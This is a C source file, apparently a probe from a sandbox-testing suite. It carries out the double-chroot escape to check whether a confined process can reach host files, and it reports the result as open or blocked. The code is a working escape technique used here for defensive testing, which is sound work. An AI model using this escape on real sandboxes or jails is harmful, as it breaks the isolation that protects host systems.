/* chroot: the double-chroot escape (needs CAP_SYS_CHROOT): chroot into a
 * directory while the working directory stays outside it, climb with
 * "..", and chroot there; then look for MARKER, a file outside the root
 * we started in.
 *
 *   chroot MARKER         escape the sandbox's root: MARKER is a host path
 *   chroot jail DIR NAME  the control: first shut ourselves in DIR with a
 *                         plain chroot, then escape it: NAME (a file next
 *                         to DIR) shows the technique works
 */
#include "probe.h"
#include <fcntl.h>
#include <sys/stat.h>

static void escape(void)
{
	int i;

	mkdir("probe-chroot", 0755);
	if (chroot("probe-chroot") < 0) /* the cwd stays outside the new root */
		ERROR("chroot: %s", strerror(errno));
	for (i = 0; i < 64; i++)
		if (chdir("..") < 0)
			break;
	if (chroot(".") < 0)
		ERROR("chroot .: %s", strerror(errno));
}

int main(int argc, char **argv)
{
	const char *marker;

	if (argc == 4 && strcmp(argv[1], "jail") == 0) {
		if (chdir(argv[2]) < 0 || chroot(".") < 0)
			ERROR("cannot set up the jail %s: %s", argv[2], strerror(errno));
		if (access(argv[3], F_OK) == 0)
			ERROR("%s is visible inside the jail", argv[3]);
		marker = argv[3];
	} else if (argc == 2) {
		marker = argv[1];
		if (chdir("/tmp") < 0)
			ERROR("chdir /tmp: %s", strerror(errno));
	} else {
		ERROR("usage: chroot MARKER | chroot jail DIR NAME");
	}
	escape();
	if (access(marker, F_OK) == 0)
		OPEN("after the double chroot %s is visible", marker);
	BLOCKED("after the double chroot %s is not there (%s)", marker, strerror(errno));
}
